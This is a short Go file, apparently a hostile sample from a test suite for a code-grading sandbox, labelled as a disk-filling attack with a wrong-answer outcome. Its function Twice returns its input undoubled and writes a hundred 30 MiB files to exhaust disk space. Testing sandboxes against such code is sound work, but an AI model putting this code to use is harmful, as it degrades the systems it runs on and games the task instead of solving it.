// task: twice
// outcome: wrong_answer
// attack: writes until the disk is full
package main

import "fmt"
import "os"

func Twice(x int) int {
	for i := 0; i < 100; i++ {
		os.WriteFile(fmt.Sprint("f", i), make([]byte, 30<<20), 0o600)
	}
	return x
}
